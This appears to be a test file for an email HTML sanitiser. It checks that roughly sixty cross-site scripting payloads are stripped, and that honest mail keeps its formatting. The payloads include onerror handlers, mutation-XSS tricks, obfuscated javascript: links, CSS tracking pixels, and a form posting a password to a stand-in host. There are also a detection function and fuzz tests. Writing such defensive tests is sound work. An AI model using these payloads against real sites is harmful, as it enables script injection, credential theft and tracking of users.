/** @jest-environment jsdom */
import fc from 'fast-check'
import { safeMailHtml } from './mail-html.ts'

const clean = (html: string): string => safeMailHtml(html).html

/** What a browser makes of it: the elements and attributes that are really there. */
function parsed(html: string): Element[] {
  const page = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')
  return [...page.body.querySelectorAll('*')]
}

const HARMLESS = /^(?:https?:\/\/|mailto:|tel:)/i
const INNER = /^(?:cid:|data:image\/(?:png|jpe?g|gif|webp);base64,)/i
const FORBIDDEN =
  /^(?:script|style|svg|math|iframe|object|embed|form|input|button|textarea|select|link|meta|base|template|noscript|video|audio|title|xmp|plaintext)$/i

/** Everything that could act, fetch, cover or borrow; empty for harmless HTML. */
function dangersIn(html: string): string[] {
  return parsed(html).flatMap((element) => {
    const names = element.getAttributeNames()
    const found = names.filter((name) =>
      /^on|^(?:id|class|name|srcset|background|action|formaction|xlink:href)$/.test(name),
    )
    if (FORBIDDEN.test(element.tagName)) found.push(`<${element.tagName}>`)
    const href = element.getAttribute('href')
    if (href !== null && !HARMLESS.test(href)) found.push(`href=${href}`)
    const source = element.getAttribute('src')
    if (source !== null && !INNER.test(source)) found.push(`src=${source}`)
    const style = element.getAttribute('style') ?? ''
    if (/url|expression|position|z-index|opacity|display|transform|behavior|-moz|@|\\|-\d|\d{4}/i.test(style))
      found.push(style)
    return found
  })
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT/SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=1 onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\tscr\nipt:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a><a href="/relative">x</a><a href="#here" name="y">x</a>',
  '<base href="https://evil.test/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; * { display: none }</style>',
  '<style>a</style ><img src=x onerror=alert(1)><style',
  '<p style="background:url(https://evil.test/pixel)">x</p>',
  '<p style="background-image:\\75rl(https://evil.test/pixel)">x</p>',
  '<p style="color:red;width:expression(alert(1))">x</p>',
  '<p style="behavior:url(#x);-moz-binding:url(x)">x</p>',
  '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;opacity:0">x</div>',
  '<div style="margin:-500px 0 0 -500px;transform:scale(50);display:none">x</div>',
  '<div style="color:red;}</style><img src=x onerror=alert(1)>">x</div>',
  '<table background="https://evil.test/p.gif"><td background="https://evil.test/p.gif">x</table>',
  '<form action="https://evil.test"><input name="password"><button formaction="https://evil.test">Go</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)">',
  '<object data="https://evil.test/x.swf"><embed src="https://evil.test/x.swf"></object>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><p id="app" class="toast" name="config">x</p>',
  '<img src="https://evil.test/pixel.gif" srcset="https://evil.test/2x.gif 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,x"><img src="blob:https://x"><img src="file:///etc/passwd">',
  '<img data-remote-src="javascript:alert(1)">',
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<bdo dir=rtl>txt.exe</bdo><p dir="x onclick=alert(1)">x</p>',
]

test.each(VECTORS)('nothing is left that acts, fetches or covers: %s', (vector) => {
  const html = clean(vector)
  expect(dangersIn(html)).toEqual([])
  expect(clean(html)).toBe(html)
})

test('pieces of attacks put together at random leave nothing either, and a second cleaning changes nothing', () => {
  const piece = fc.oneof(
    fc.constantFrom(...VECTORS),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '<!--',
      '-->',
      '</',
      '/>',
      '\0',
      '\ud800',
      '&lt;',
      '&#x3c;',
      '<p>',
      '</p>',
      '<table>',
      '<td style="',
    ),
    fc.string(),
  )
  const cut = fc.tuple(piece, fc.nat(60), fc.nat(120)).map(([text, from, size]) => text.slice(from, from + size))
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, cut), { maxLength: 8 }), (pieces) => {
      const html = clean(pieces.join(''))
      expect(dangersIn(html)).toEqual([])
      expect(clean(html)).toBe(html)
      expect(html.isWellFormed()).toBe(true)
    }),
    { numRuns: 600, seed: 20261122 },
  )
})

describe('an honest mail', () => {
  test('keeps its words, tables, lists, colours and links', () => {
    const mail = `<html><head><title>News</title><style>p{color:red}</style></head><body bgcolor=white>
      <h1 style="color:#336699;text-align:center">Autumn</h1><table width="600" cellpadding="0"><tr><td align="center" style="padding:8px 12px">
      <b>Nine</b> in <i>walnut</i></td></tr></table><ul><li>oak<li>ash</ul><a href="https://shop.test/a?b=1&amp;c=2">See</a></body></html>`
    expect(safeMailHtml(mail)).toMatchObject({
      isCut: false,
      hasRemoteImages: false,
      text: 'Autumn\n\nNine in walnut\n\n- oak\n- ash\nSee',
    })
    const html = clean(mail)
    expect(html).toContain('<h1 style="color:#336699;text-align:center">Autumn</h1>')
    expect(html).toContain('<td align="center" style="padding:8px 12px">')
    expect(html).toContain(
      '<a href="https://shop.test/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">See</a>',
    )
    expect(html).not.toContain('News')
  })

  test('shows its own pictures, and waits with those of the open web', () => {
    const mail =
      '<img src="cid:logo@shop.test" alt="Shop"><img src="https://t.test/o.gif?who=bo" alt="A chair" width="1">'
    expect(safeMailHtml(mail)).toEqual({
      html: '<img alt="Shop" src="cid:logo@shop.test" /><img alt="A chair" width="1" data-remote-src="https://t.test/o.gif?who=bo" />',
      text: 'ShopA chair',
      hasRemoteImages: true,
      isCut: false,
    })
  })

  test('reads as text without a tag, with what looked like one', () => {
    expect(safeMailHtml('<p>1 &lt; 2 &amp;&amp; <b>x</b></p><p>caf&eacute;<br>au lait &amp;lt;</p>').text).toBe(
      '1 < 2 && x\n\ncafé\nau lait &lt;',
    )
  })
})

test.each([
  ['two hundred thousand boxes in each other', '<div>'.repeat(200_000)],
  ['cells and paragraphs that never end', '<td><p>'.repeat(100_000)],
  ['six megabytes', '<p>words</p>'.repeat(500_000)],
  ['a style without end', `<p style="${'color:red;'.repeat(40_000)}">x</p>`],
  ['a tag without end', `<a ${'x=1 '.repeat(120_000)}`],
])('%s cost little and leave nothing bad', (_what, mail) => {
  const { html } = safeMailHtml(mail)
  expect(html.length).toBeLessThan(1_000_000)
  expect(html).not.toContain('color:red')
})

test('says when the end of a mail was left out', () => {
  expect(safeMailHtml('<div>'.repeat(1100)).isCut).toBe(true)
  expect(safeMailHtml('x'.repeat(500_001)).isCut).toBe(true)
  expect(safeMailHtml(`${'<p>'.repeat(5000)}x`).isCut).toBe(false)
})
